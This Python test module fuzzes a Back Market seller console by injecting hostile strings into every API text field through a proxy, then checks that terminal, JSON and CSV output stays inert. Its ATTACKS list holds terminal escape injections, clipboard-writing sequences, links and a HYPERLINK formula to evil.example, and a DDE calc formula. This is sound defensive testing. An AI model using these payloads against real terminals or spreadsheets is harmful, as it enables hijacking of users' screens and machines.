"""S2: hostile strings in every text field that Back Market sends, through commands, files and the console.

A proxy before the sandbox puts one into each text of each answer, the same one whenever the same field is asked for.
What comes out is read byte by byte: a terminal must get no control from it, and a spreadsheet no formula.
"""

import csv
import fcntl
import io
import json
import os
import pty
import re
import select
import struct
import subprocess
import sys
import termios
import threading
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.error import HTTPError
from urllib.request import Request, urlopen

from bmconsole.exports import ORDER_COLUMNS
from bmconsole.sandbox import Options
from bmconsole.sandbox.server import running_in_thread
from tests.fire.program import Ended, account, call, environment
from tests.fire.rows import Outcome, Row, Task

MARK = "7777"
"""It is in every attack, also among the parameters of its sequences: nothing of ours ever prints it."""

ATTACKS = (
    "\x1b]52;c;{m}\x07",
    "\x1b]0;{m}\x07",
    "\x1b]8;;http://evil.example/{m}\x1b\\x\x1b]8;;\x1b\\",
    "\x1bP{m}\x1b\\",
    "\x1b_{m}\x1b\\",
    "\x1b[7777m{m}",
    "\x1b[7777;1H{m}",
    "\x1b[?7777h{m}",
    "\x1b[7777b{m}",
    "\x1bc{m}",
    "\x1b{m}",
    "\x9b7777m{m}",
    "\x9d52;c;{m}\x9c",
    "\x90{m}\x9c",
    "\x85{m}",
    "a\rb{m}",
    "a\x08\x08{m}",
    "a\x00b{m}",
    "\x07{m}",
    "\x0e{m}\x0f",
    "a\nb{m}",
    "a\x0bb\x0cc{m}",
    "\x7f{m}",
    "\u202e{m}\u202c",
    "\u2066{m}\u2069",
    "\u200e\u200f\u061c{m}",
    "\u200b\ufeff\u2060{m}",
    "\u2028{m}\u2029",
    "[link=http://evil.example/{m}]x[/link]",
    "[/]{m}",
    "[bold red]{m}",
    "[@click=app.quit]{m}[/]",
    "[[{m}]]\\[",
    "[on 7777]{m}",
    "\ud83d{m}",
    "{m}\udc00",
    "={m}",
    "+{m}",
    "-{m}",
    "@{m}",
    "\t={m}",
    "\r={m}",
    " ={m}",
    '=HYPERLINK("http://evil.example/{m}")',
    "=cmd|' /C calc'!{m}",
    '";={m},"',
    "%s%n{m}",
    "{{m}}{m}",
    "\u0301\u0301\u0301{m}",
    "\U0001f468\u200d\U0001f469{m}",
)
_LONG = 100_000
_CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
)
"""What must not come out anywhere; a tab and a line's end are looked at where they matter."""
_SEQUENCE = re.compile(
    r"\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)|\x1b[P_^X][^\x1b]*\x1b\\|\x1b\[[0-?]*[ -/]*[@-~]|\x1b[ -/]*[0-~]"
)
_KEPT = re.compile(r"\d{4}-\d\d-\d\dT.*|-?\d+(\.\d+)?|[0-9a-f]{8}-[0-9a-f-]{27}|https?://127.*")
_STRUCTURE = frozenset({"currency", "country_code", "date_creation", "next", "previous", "market", "amount"})
_FORMULA = ("=", "+", "-", "@", "\t", "\r")
_QUIET = 0.5
_SHOWN = 50
_PATIENCE = 30.0


class Poison:
    """Gives each field of each record its own hostile string."""

    def __init__(self, seed: int) -> None:
        self._seed = seed
        self._lock = threading.Lock()
        self.strings: dict[str, str] = {}

    def string(self, place: str) -> str:
        """Return the string of a field, such as `order 5/shipping_address/city`."""
        with self._lock:
            found = self.strings.get(place)
            if found is None:
                number = len(self.strings)
                mark = f"{MARK}z{number}z"
                found = ATTACKS[number % len(ATTACKS)].replace("{m}", mark)
                if number % 101 == 100:
                    found = mark + "A" * _LONG + found
                self.strings[place] = found
            return found

    def record(self, value: object, place: str) -> object:
        """Return `value` with every text in it replaced."""
        if isinstance(value, dict):
            name = value.get("order_id") or value.get("id")
            if name is not None:
                place = f"{place} {name}"
            told = {
                key: item if key in _STRUCTURE else self.record(item, f"{place}/{key}") for key, item in value.items()
            }
            if "order_id" in value:
                told[self.string(f"{place}/?")[:200]] = self.string(f"{place}/unknown")
            return told
        if isinstance(value, list):
            return [self.record(item, f"{place}/{number}") for number, item in enumerate(value)]
        # What we wrote ourselves is hostile already
        if isinstance(value, str) and not _KEPT.fullmatch(value) and MARK not in value:
            return self.string(place)
        return value


Replace = Callable[[object, str], object]
"""Rewrites an answer, given the place that it comes from."""
Instead = Callable[[BaseHTTPRequestHandler], bytes | None]
"""Answers in the shop's place, or not: sends the head and returns the body."""


@contextmanager
def rewriting(shop: str, replace: Replace, instead: Instead | None = None) -> Iterator[str]:
    """Run a proxy before the shop that rewrites its answers; yields its address."""

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def handle_any(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length") or 0))
            headers = {name: value for name, value in self.headers.items() if name.lower() not in ("host",)}
            if instead is not None and (told := instead(self)) is not None:
                self.wfile.write(told)
                return
            asked = Request(shop + self.path, data=body or None, headers=headers, method=self.command)  # noqa: S310
            asked.remove_header("Accept-encoding")
            try:
                with urlopen(asked, timeout=30) as answer:  # noqa: S310  # the sandbox on loopback
                    status, data = answer.status, answer.read()
            except HTTPError as error:
                with error:
                    status, data = error.code, error.read()
            market = self.headers.get("accept-language", "")
            place = f"{self.path.partition('?')[0].partition('/ws/')[2][:8]} {market}"
            data = json.dumps(replace(json.loads(data), place)).encode("ascii")
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_PATCH = handle_any

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    class Server(ThreadingHTTPServer):
        def handle_error(self, request: object, client_address: object) -> None:
            """Say nothing of a client that went away, as those do that are made to crash."""

    server = Server(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


class Judge:
    """Reads what came out, and notes what should not be in it."""

    def __init__(self, poison: Poison) -> None:
        self._poison = poison
        self.wrong: list[str] = []
        self.seen: set[str] = set()
        self.bytes = 0

    def text(self, where: str, text: str) -> None:
        """Judge what is for people or programs, not for a terminal that we drive."""
        self.bytes += len(text)
        self._marks(text)
        if found := _CONTROLS.search(text) or ("\t" in text and re.search("\t", text)):
            self._note(where, text, found.start() if found else 0)

    def json(self, where: str, text: str) -> None:
        """Judge lines of JSON: each is one object, nothing in it is for a terminal, and the strings are all there."""
        self.text(where, text)
        if not text.isascii():
            self._note(where, text, 0)
        for line in text.splitlines():
            json.loads(line)

    def sheet(self, where: str, text: str) -> None:
        """Judge CSV: a spreadsheet finds no formula in it, and as many cells in each row as there are names."""
        self.text(where, text)
        rows = list(csv.reader(io.StringIO(text)))
        for row in rows:
            if len(row) != len(rows[0]):
                self.wrong.append(f"{where}: a row of {len(row)} cells under {len(rows[0])} names: {row!r:.200}")
            for cell in row:
                if cell.startswith(_FORMULA) and not re.fullmatch(r"[-+]?\d+(\.\d+)?", cell):
                    self.wrong.append(f"{where}: a spreadsheet would work out {cell!r:.80}")

    def terminal(self, where: str, data: bytes) -> None:
        """Judge what a terminal was sent by a program that drives it."""
        self.bytes += len(data)
        try:
            text = data.decode("utf-8")
        except UnicodeDecodeError as error:
            self.wrong.append(f"{where}: no UTF-8: {data[max(0, error.start - 20) : error.start + 20]!r}")
            text = data.decode("utf-8", "replace")
        plain = []
        end = 0
        for sequence in _SEQUENCE.finditer(text):
            if MARK in sequence[0] or "evil" in sequence[0] or sequence[0] == "\x1bc":
                self._note(where, text, sequence.start())
            plain.append(text[end : sequence.start()])
            end = sequence.end()
        # Parts stand apart so that what a sequence parted is not read as one
        rest = "\x0b".join([*plain, text[end:]]).replace("\r", "").replace("\x0b", "")
        self._marks(rest)
        if found := _CONTROLS.search(rest):
            self._note(where, rest, found.start())

    def ended(self, where: str, ended: Ended, codes: Sequence[int]) -> None:
        """Judge how a command ended, and what it told people."""
        self.text(f"{where}, told", ended.err)
        if ended.code not in codes or "Traceback" in ended.err:
            self.wrong.append(f"{where}: it ended with {ended.code}: {ended.err[-300:]}")

    def _marks(self, text: str) -> None:
        self.seen.update(re.findall(rf"{MARK}z\d+z", text))

    def _note(self, where: str, text: str, at: int) -> None:
        self.wrong.append(f"{where}: {text[max(0, at - 30) : at + 30]!r}")


class Pty:
    """A program on a terminal; keeps every byte that it sent."""

    def __init__(self, arguments: Sequence[str], *, program: Sequence[str] = ("-m", "bmconsole")) -> None:
        rows, columns = 50, 200
        self._master, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))
        kept = {name: value for name, value in os.environ.items() if name not in ("COLUMNS", "LINES")}
        looks = {"TERM": "xterm-256color", "COLORTERM": "truecolor", "LANG": "C.UTF-8"}
        self.process = subprocess.Popen(
            [sys.executable, *program, *arguments],
            env=kept | looks,
            stdin=slave,
            stdout=slave,
            stderr=slave,
            start_new_session=True,
        )
        os.close(slave)
        self.data = bytearray()

    def type(self, keys: str) -> None:
        """Type, and read until the answer has come and nothing more does."""
        before = len(self.data)
        os.write(self._master, keys.encode())
        self.read(lambda: len(self.data) > before)

    def read(self, come: Any = lambda: True) -> None:
        """Read until `come()` and then silence, or the end of the program."""
        deadline = time.monotonic() + _PATIENCE
        while time.monotonic() < deadline:
            ready, _, _ = select.select([self._master], [], [], _QUIET)
            if not ready:
                if come() or self.process.poll() is not None:
                    return
                continue
            try:
                self.data += os.read(self._master, 65_536)
            except OSError:
                return

    def close(self) -> int | None:
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait()
        os.close(self._master)
        return self.process.returncode


def _commands(judge: Judge, task: Task, poison: Poison) -> None:
    """Print everything in every form."""
    judge.ended("sync", call("sync"), (0, 6))
    judge.ended("sync backbox", call("sync", "backbox"), (0, 1, 6))
    orders = [json.loads(line) for line in call("orders", "list", "--limit", "0", "--json").out.splitlines()]
    listings = [json.loads(line) for line in call("listings", "list", "--limit", "0", "--json").out.splitlines()]
    assert orders, "no order came through"
    assert listings, "no listing came through"
    some = [str(order["order_id"]) for order in orders[: 5 + len(orders) // 8]]
    refs = [str(listing["id"]) for listing in listings[: 5 + len(listings) // 8]]
    first, ref = some[0], refs[0]
    typed = ("\x1b]52;c;7777\x07", "=7777", "[/]7777\x9b7777m", "\u202e7777")
    plain: list[tuple[str, ...]] = [
        *(("orders", "show", number) for number in some),
        *(("listings", "show", one) for one in refs),
        ("orders", "list", "--limit", "0"),
        ("listings", "list", "--limit", "0"),
        ("orders", "show", first, "--live"),
        ("listings", "show", ref, "--live"),
        ("listings", "set", ref, "--quantity", "7", "--yes"),
        *(("orders", "note", first, text) for text in typed),
        *(("orders", "list", "--where", f"buyer~{text}") for text in typed),
        *(("listings", "show", text) for text in typed),
        *(("listings", "set", ref, "--comment", text, "--yes") for text in typed),
        ("writes", "list"),
        ("writes", "show", "1"),
        ("listings", "history", ref),
        ("listings", "removals"),
        ("costs", "list", "--missing"),
        ("reprice",),
        ("log", "--limit", "500"),
        ("brief",),
        ("status",),
        ("limits",),
        ("doctor",),
    ]
    for arguments in plain:
        name = " ".join(arguments)[:60]
        ended = call(*arguments)
        judge.ended(repr(name), ended, range(7))
        judge.text(repr(name), ended.out)
        if arguments[0] != "reprice":
            judge.json(f"{name!r} --json", call(*arguments, "--json").out)
    columns = ",".join(ORDER_COLUMNS)
    sheet = task.folder / "sheet.csv"
    for arguments in (("orders", "export", "--columns", columns), ("listings", "export")):
        judge.sheet(" ".join(arguments)[:20], call(*arguments).out)
        judge.ended("export", call(*arguments, "--output", str(sheet)), (0,))
        judge.sheet("a file", sheet.read_text(encoding="utf-8-sig"))
        sheet.unlink()


def _refused(judge: Judge, refusals: list[bytes]) -> None:
    """Have the server refuse, each time with another hostile reason."""
    (order,) = [json.loads(line) for line in call("orders", "list", "--limit", "1", "--json").out.splitlines()]
    for number, attack in enumerate(ATTACKS):
        reason = attack.replace("{m}", f"{MARK}z{number}r")
        told = {"error": {"code": reason, "message": reason}, "requestId": reason, "statusCode": 400}
        refusals[:] = [json.dumps(told).encode("ascii")]
        for more in ((), ("--json",)):
            judge.ended(
                f"refused: {reason!r:.30}", call("orders", "show", str(order["order_id"]), "--live", *more), (1,)
            )
    refusals.clear()


def _on_terminals(judge: Judge) -> int:
    """Print to a terminal, where tables have colours, and work at the console; return how many strings that showed."""
    for arguments in (("orders", "list"), ("listings", "list"), ("writes", "list"), ("log",)):
        window = Pty(arguments)
        window.read(lambda window=window: window.process.poll() is not None)
        judge.terminal(" ".join(arguments), bytes(window.data))
        if code := window.close():
            judge.wrong.append(f"{' '.join(arguments)} on a terminal ended with {code}")
    window = Pty(())
    window.read(lambda: MARK.encode() in window.data)
    down = "\x1b[6~"
    for keys in (
        "1",
        down,
        down,
        down,
        "G",
        "g",
        "\r",
        down,
        down,
        "1",
        "j",
        "j",
        "\r",
        "1",
        "2",
        down,
        down,
        "G",
        "g",
    ):
        window.type(keys)
    for keys in ("\r", down, "\x1b", "2", "j", "\r", "\x1b", "5", down, "6", "\r", "\x1b", "7", "8", "1", "?", "\x1b"):
        window.type(keys)
    judge.terminal("the console", bytes(window.data))
    shown = len(set(re.findall(rf"{MARK}z\d+z".encode(), window.data)))
    if shown < _SHOWN:
        judge.wrong.append(f"the console showed no more than {shown} of the strings: nothing was tried")
    if window.process.poll() is not None:
        judge.wrong.append(f"the console ended by itself with {window.process.returncode}")
    window.type("1")
    window.type("q")
    window.close()
    return shown


def run(task: Task) -> Outcome:
    """Send at least so many hostile strings through everything."""
    outcome = Outcome()
    poison = Poison(task.seed)
    judge = Judge(poison)
    options = Options(
        seed=task.seed,
        orders=max(5, task.count // 35),
        listings=max(4, task.count // 120),
        markets=("fr-fr",),
        limits=False,
        several_lines=0.1,
        backbox_settle=(0.0, 0.0),
    )
    refusals: list[bytes] = []

    def refuse(handler: BaseHTTPRequestHandler) -> bytes | None:
        if not refusals:
            return None
        handler.send_response(400)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(len(refusals[0])))
        handler.end_headers()
        return refusals[0]

    with running_in_thread(options) as shop, rewriting(shop.url, poison.record, refuse) as url:
        home = task.folder / "home"
        with environment(account(shop, home, BASE_URL=url, LIMITS__COMPETITORS="1000/1", ACCESS="admin")):
            _commands(judge, task, poison)
            task.tell(f"{len(poison.strings)} strings through the commands, {len(judge.wrong)} wrong")
            if task.count >= _WITH_TERMINALS and sys.platform != "win32":
                _refused(judge, refusals)
                outcome.figures["shown by the console"] = _on_terminals(judge)
            for file in home.rglob("*.log*"):
                judge.text(file.name, file.read_text(encoding="utf-8"))
    outcome.done = len(poison.strings)
    outcome.wrong = sorted(set(judge.wrong))
    shown: Mapping[str, int] = {"strings": len(poison.strings), "seen": len(judge.seen), "bytes judged": judge.bytes}
    outcome.figures.update(shown)
    return outcome


_WITH_TERMINALS = 1000

ROW = Row(
    id="S2",
    what="hostile strings in every text field, through commands, files and the console",
    unit="strings",
    long=5000,
    short=100,
    passes="no raw control byte on the pty, CSV inert",
    run=run,
)
